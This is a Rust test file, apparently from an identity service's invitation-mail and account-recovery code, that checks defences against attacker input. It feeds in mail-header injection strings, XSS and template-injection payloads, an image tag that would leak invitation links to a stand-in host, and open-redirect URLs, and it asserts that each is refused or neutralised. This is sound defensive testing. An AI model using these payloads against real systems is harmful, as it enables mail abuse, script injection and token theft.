//! Rows 13 to 16: what a mail or a page is made of.

use bytes::Bytes;
use http::Request;
use serde_json::{Value, json};

use super::redeem;
use crate::console::Browser;
use crate::provider::{answer, with_resend};
use crate::scim2::client::WSO2;
use crate::support::{App, Reply, basic, invited};
use crate::templates::ASK;

/// What tries to be a header of its own.
const BREAKS: &[&str] = &[
    "Eve\r\nBcc: eve@evil.example",
    "Eve\nBcc: eve@evil.example",
    "Eve\rBcc: eve@evil.example",
    "Eve%0d%0aBcc: eve@evil.example",
    "Eve\u{2028}Bcc: eve@evil.example",
    "Eve\u{2029}Bcc: eve@evil.example",
    "Eve\u{85}Bcc: eve@evil.example",
    "Eve\u{b}\u{c}Bcc: eve@evil.example",
    "Eve\0Bcc: eve@evil.example",
    "=?utf-8?q?Eve=0D=0ABcc:_eve@evil.example?=",
];

#[test]
fn row_13_no_value_makes_a_header() {
    let (app, provider) = with_resend(|number, _| answer(200, &format!("{{\"id\":\"{number}\"}}")));
    let template = json!({
        "contentType": "text/html", "subject": "{{user.claim.givenname}} {{user-name}} {{organization-name}}",
        "body": "{{invitation-link}}{{user.claim.givenname}}", "footer": "",
    });
    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string()).status, 200);
    let long = "x".repeat(50_000);
    let mut mailed = 0;
    for (number, hostile) in BREAKS.iter().copied().chain([long.as_str()]).enumerate() {
        let mut user = invited(&format!("user{number}"));
        user["displayName"] = hostile.into();
        user["name"] = json!({ "givenName": hostile, "familyName": hostile });
        user["preferredLanguage"] = "en".into();
        user["title"] = hostile.into();
        let reply = app.admin("POST", "/scim2/Users", user.to_string());
        assert!(matches!(reply.status.as_u16(), 201 | 400), "{hostile:?}: {}", reply.text);
        mailed += usize::from(reply.status == 201);
        let mut named = invited(&format!("other{number}"));
        named["userName"] = hostile.into();
        let reply = app.admin("POST", "/scim2/Users", named.to_string());
        mailed += usize::from(reply.status == 201);
        assert!(matches!(reply.status.as_u16(), 201 | 400), "{hostile:?}: {}", reply.text);
    }
    // What would be in every mail's head is not taken at all.
    for (setting, hostile) in [
        ("ORGANIZATION_NAME", BREAKS[0]),
        ("ORGANIZATION_NAME", BREAKS[8]),
        ("MAIL_REPLY_TO", "help@example.com\r\nBcc: eve@evil.example"),
    ]
    .into_iter()
    .chain([("MAIL_REPLY_TO", "a@example.com, b@example.com"), ("MAIL_REPLY_TO", "help@example.com\u{2028}x")])
    {
        let reply = app.admin("PATCH", "/api/settings", json!({ setting: hostile }).to_string());
        assert_eq!(reply.status, 400, "{setting}: {}", reply.text);
    }
    app.deliver();
    app.deliver();
    app.deliver();
    let sent = provider.seen.lock().unwrap();
    assert!(mailed > 10);
    assert_eq!(sent.iter().flat_map(|request| requests(request.body())).count(), mailed);
    for request in sent.iter() {
        for mail in requests(request.body()) {
            let subject = mail["subject"].as_str().unwrap();
            assert!(!subject.chars().any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')), "{subject:?}");
            assert!(subject.chars().count() <= 160, "{subject:?}");
            assert_eq!(mail["to"].as_array().unwrap().len(), 1);
            assert!(mail.get("cc").is_none() && mail.get("bcc").is_none(), "{mail}");
            let headers = mail["headers"].as_object().unwrap();
            assert!(headers.keys().all(|name| matches!(name.as_str(), "Auto-Submitted" | "X-Entity-Ref-ID")), "{mail}");
            assert!(
                !mail["headers"].to_string().contains("evil") && !mail["from"].to_string().contains("evil"),
                "{mail}"
            );
            let recipient = mail["to"][0].as_str().unwrap();
            assert!(recipient.ends_with("@example.com") && !recipient.contains("evil"), "{recipient}");
        }
    }
}

/// The mails of a request to the provider: one, or a batch.
fn requests(body: &[u8]) -> Vec<Value> {
    match serde_json::from_slice(body).unwrap() {
        Value::Array(mails) => mails,
        mail => vec![mail],
    }
}

#[test]
fn row_14_an_invitation_has_exactly_one_recipient() {
    let refused = [
        json!("a@x.example,b@y.example"),
        json!("a@x.example;b@y.example"),
        json!("a@x.example b@y.example"),
        json!("a@x%20b@y.example"),
        json!("a@x.example\r\nBcc: b@y.example"),
        json!("a@x.example\nb@y.example"),
        json!("a@x.example\0b@y.example"),
        json!("a(comment)@x.example"),
        json!("\"a@x.example, b\"@y.example"),
        json!("\"a b\"@x.example"),
        json!("Eve <a@x.example>"),
        json!("<a@x.example>"),
        json!("a@x.example\u{ff0c}b@y.example"),
        json!("a\u{ff20}x.example"),
        json!("a@@x.example"),
        json!("a@[127.0.0.1]"),
        json!("@x.example"),
        json!("a@"),
        json!("group:a@x.example,b@y.example;"),
        json!(["a@x.example", "b@y.example"]),
        json!({ "value": "a@x.example" }),
    ];
    let app = App::new();
    for value in refused {
        let body = json!({ "userName": "eve", "emails": [{ "value": value, "primary": true }], WSO2: { "askPassword": true } });
        let reply = app.admin("POST", "/scim2/Users", body.to_string());
        assert_eq!(reply.status, 400, "{value}: {}", reply.text);
    }
    assert_eq!(app.number("SELECT (SELECT COUNT(*) FROM resources) + (SELECT COUNT(*) FROM outbox)"), 0);
    let taken = [
        ("one", json!("first@example.com"), "first@example.com"),
        ("two", json!("o'neil+tag@sub.example.co.uk"), "o'neil+tag@sub.example.co.uk"),
        ("three", json!("paul@b\u{fc}cher.example"), "paul@b\u{fc}cher.example"),
        ("four", json!("paul@xn--bcher-kva.example"), "paul@xn--bcher-kva.example"),
        ("five", json!("p\u{e4}ul@example.com"), "p\u{e4}ul@example.com"),
    ];
    for (name, value, recipient) in taken {
        let body = json!({ "userName": name, "emails": [{ "value": value }, { "value": "second@example.com" }], WSO2: { "askPassword": true } });
        assert_eq!(app.admin("POST", "/scim2/Users", body.to_string()).status, 201);
        let before = app.inbox().len();
        app.deliver();
        let mails = app.inbox();
        assert_eq!((mails.len(), mails[0]["to"].as_str()), (before + 1, Some(recipient)));
    }
}

#[test]
fn row_15_names_are_text_in_the_mail_and_on_the_page() {
    for hostile in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}}",
        "{{confirmation-code}}",
        "${7*7}",
        "javascript:alert(1)",
        "\"><a href=https://evil.example>",
        "' onmouseover='alert(1)",
        "</title><script>alert(1)</script>",
        "\u{202e}elibom\u{2066}",
        "&lt;script&gt;",
    ] {
        let app = App::new();
        let set = app.admin("PATCH", "/api/settings", json!({ "ORGANIZATION_NAME": hostile }).to_string());
        assert!(matches!(set.status.as_u16(), 200 | 400), "{hostile}: {}", set.text);
        let mut user = invited("paul");
        user["userName"] = hostile.into();
        user["name"] = json!({ "givenName": hostile, "familyName": hostile });
        user["displayName"] = hostile.into();
        let created = app.admin("POST", "/scim2/Users", user.to_string());
        if hostile.contains('\u{202e}') {
            // What turns the direction of the text is in no user name; other names have it.
            created.is_error(400, Some("invalidValue"));
            user["userName"] = "paul".into();
            assert_eq!(app.admin("POST", "/scim2/Users", user.to_string()).status, 201, "{hostile}");
        } else {
            assert_eq!(created.status, 201, "{hostile}");
        }
        let link = app.newest_link();
        let mail = app.inbox().remove(0);
        let (html, text) = (mail["html"].as_str().unwrap(), mail["text"].as_str().unwrap());
        for tag in ["<script", "<img src=x", "onerror=alert(1)>", "<a href=https://evil", "' onmouseover='"] {
            assert!(!html.contains(tag), "{hostile}: {html}");
        }
        assert!(!html.contains("href=\"javascript:"), "{html}");
        assert!(!html.contains(['\u{202e}', '\u{2066}']) && !text.contains(['\u{202e}', '\u{2066}']), "{hostile}");
        assert!(!text.contains("Hello 49") || !hostile.contains("7*7"), "nothing is reckoned: {text}");
        assert_eq!(mail["links"].as_array().unwrap().len(), 1, "{hostile}: {}", mail["links"]);
        if hostile.starts_with("<script") || hostile.contains("7*7") {
            assert!(text.contains(hostile), "the text part has it as it is: {text}");
        }
        for page in [
            app.anyone("GET", &link),
            redeem(&app, &link, "short"),
            redeem(&app, &link, "walking the dog at nine"),
            app.anyone("GET", &link),
        ] {
            let scripts = page.text.matches("<script").count();
            assert_eq!(scripts, page.text.matches("<script src=\"/assets/").count(), "{hostile}: {}", page.text);
            for tag in
                ["<img", "onerror=alert(1)>", "<a href=https://evil", "' onmouseover='alert(1)'", "href=\"javascript:"]
            {
                assert!(!page.text.contains(tag), "{hostile}: {}", page.text);
            }
        }
    }
}

#[test]
fn row_15_names_make_no_links_and_addresses_stay_addresses() {
    let claims = [
        ("givenname", "www.evil.example", "www. evil. example"),
        ("lastname", "evil.example/x", "evil. example/x"),
        ("fullname", "Win at evil.com", "Win at evil. com"),
        ("middlename", "192.0.2.1", "192. 0. 2. 1"),
        ("displayName", "https://evil\u{3002}com", "https: //evil\u{3002} com"),
        ("nickName", "J.R.R. St.Clair", "J.R.R. St.Clair"),
        ("title", "Node.js at https://x", "Node.js at https: //x"),
        ("username", "kim.example.com", "kim.example.com"),
        ("emailaddress", "kim@mail.example.com", "kim@mail.example.com"),
        ("profileUrl", "https://me.example.com/kim", "https://me.example.com/kim"),
        ("url", "https://me.example.com/kim", "https://me.example.com/kim"),
        ("photourl", "https://me.example.com/kim.png", "https://me.example.com/kim.png"),
        ("photos.display", "https://evil.example", "https: //evil.example"),
        ("employeeNumber", "https://hr.example.com/1", "https://hr.example.com/1"),
    ];
    let app = App::new();
    let named: String = claims.iter().map(|(name, ..)| format!("[{name}: {{{{user.claim.{name}}}}}] ")).collect();
    let template = json!({
        "contentType": "text/html", "subject": "Come in", "footer": "",
        "body": format!("<p>{{{{greeting}}}} {{{{user-name}}}} {named}</p><p>{{{{invitation-link}}}}</p>"),
    });
    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string()).status, 200);
    let user = json!({
        "userName": "kim.example.com", "displayName": "https://evil\u{3002}com", "nickName": "J.R.R. St.Clair",
        "title": "Node.js at https://x",
        "name": {
            "givenName": "www.evil.example", "familyName": "evil.example/x", "formatted": "Win at evil.com",
            "middleName": "192.0.2.1",
        },
        "emails": [{ "value": "kim@mail.example.com" }], "profileUrl": "https://me.example.com/kim",
        "photos": [{ "value": "https://me.example.com/kim.png", "display": "https://evil.example" }],
        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": { "employeeNumber": "https://hr.example.com/1" },
        WSO2: { "askPassword": true },
    });
    let created = app.admin("POST", "/scim2/Users", user.to_string());
    assert_eq!(created.status, 201, "{}", created.text);
    app.deliver();
    let mail = app.inbox().remove(0);
    let text = mail["text"].as_str().unwrap();
    for (name, _, shown) in claims {
        assert!(text.contains(&format!("[{name}: {shown}]")), "{name} is not {shown}: {text}");
    }
    assert!(text.contains("www. evil. example") && !text.contains("www.evil"), "{text}");
}

#[test]
fn row_15_opening_a_mail_sends_its_link_to_nobody() {
    let app = App::new();
    let body = "<img src='https://evil.example/{{invitation-link}}'>\
        <p style='background: url(//evil.example/{{confirmation-code}})'><a href='{{invitation-link}}'>Here</a></p>";
    let template = json!({ "contentType": "text/html", "subject": "Come in", "body": body, "footer": "" });
    let refused = app.admin("PUT", &format!("{ASK}/org-templates/en_US"), template.to_string());
    assert_eq!(refused.status, 400);
    assert!(refused.text.contains("loads https://evil.example/{{invitation-link}}"), "{}", refused.text);
    assert!(refused.text.contains("loads //evil.example/{{confirmation-code}}"), "{}", refused.text);
    // Nor would it be sent, had it been stored before it was refused: what is loaded is rendered without the link.
    let allowed = template
        .to_string()
        .replace("https://evil.example/{{invitation-link}}", "x.png")
        .replace("url(//evil.example/{{confirmation-code}})", "red");
    assert_eq!(app.admin("PUT", &format!("{ASK}/org-templates/en_US"), allowed).status, 200);
    app.native.sqlite.with(|connection| connection.execute("UPDATE templates SET body = ?1", [body]).unwrap());
    app.invite("paul");
    app.deliver();
    let html = app.inbox().remove(0)["html"].as_str().unwrap().to_owned();
    assert!(!html.contains("evil.example"), "{html}");
}

#[test]
fn row_16_nobody_is_sent_to_another_site() {
    let app = App::new();
    app.invite("paul");
    let link = app.newest_link();
    let token = link.strip_prefix("/invite/").unwrap();
    let evil = [
        "//evil.example",
        "https:evil.example",
        "https://evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "%2f%2fevil.example",
        "%5cevil.example",
        "@evil.example",
        "..%2f..%2fevil.example",
        "id.example.com.evil.example",
        "https://id.example.com@evil.example",
        "x%0d%0aLocation:%20https://evil.example",
    ];
    let stays = |reply: &Reply, what: &str| {
        let location = reply.header("location");
        // The console's form, which is to lead back to what was asked for; what it leads to is seen below.
        if location.starts_with("/console/login?next=%2Fconsole") {
            return;
        }
        // A path of this site whose last part is a token's spelling at most.
        let page = location.strip_prefix("/invite/").or(location.strip_prefix("/verify/"));
        let plain = |rest: &str| rest.bytes().all(|b| b.is_ascii_alphanumeric() || b".-_".contains(&b));
        assert!(location.is_empty() || page.is_some_and(plain), "{what}: {location}");
        assert!(reply.header("refresh").is_empty() && !reply.text.contains("http-equiv"), "{what}");
    };
    for path in ["confirmrecovery.do", "confirmregistration.do"] {
        for value in evil {
            for query in [
                format!("confirmation={value}"),
                format!("confirmation={token}&callback={value}&redirect_uri={value}&next={value}&relyingParty={value}"),
                format!("callback={value}"),
            ] {
                stays(&app.anyone("GET", &format!("/accountrecoveryendpoint/{path}?{query}")), &query);
            }
            // A tenant in the path stands before where the answer leads.
            let tenant = value.replace('/', "%2f").replace('\\', "%5c");
            let reply = app.anyone("GET", &format!("/t/{tenant}/accountrecoveryendpoint/{path}?confirmation={token}"));
            assert!(reply.header("location").is_empty() || reply.header("location").starts_with("/t/"), "{value}");
        }
    }
    // Nor does a page or its form lead anywhere else, whatever it is asked for with.
    for value in evil {
        for reply in [
            app.anyone("GET", &format!("{link}?callback={value}&next={value}&redirect={value}")),
            app.anyone("GET", &format!("/console?next={value}")),
            app.anyone("GET", &format!("//evil.example/invite/{token}")),
        ] {
            stays(&reply, value);
            assert!(!reply.text.contains("evil.example"), "{}", reply.text);
        }
    }
    let wrong = Request::post(&link)
        .header("content-type", "application/x-www-form-urlencoded")
        .header("authorization", basic("admin", "admin"))
        .body(Bytes::from("password=walking+the+dog+at+nine&next=//evil.example&callback=https://evil.example"))
        .unwrap();
    let done = app.send(wrong);
    assert_eq!(done.status, 200);
    stays(&done, "the page after success");
    assert!(!done.text.contains("evil.example"));
    // Nor does signing in.
    let more =
        ["/console//evil.example/..", "/console/../invite", "/consoles", "/t/evil.example/console", "/console\r\nx: y"];
    for value in evil.into_iter().chain(more) {
        let encoded: String = form_urlencoded::byte_serialize(value.as_bytes()).collect();
        let form = app.anyone("GET", &format!("/console/login?next={encoded}"));
        assert!(form.text.contains(r#"name="next" value="/console">"#), "{value}: {}", form.text);
        let fields = [("username", "admin"), ("password", "admin"), ("next", value)];
        let reply = Browser::new(&app).post("/console/login", &fields);
        assert_eq!((reply.status.as_u16(), reply.header("location")), (303, "/console"), "{value}");
    }
}
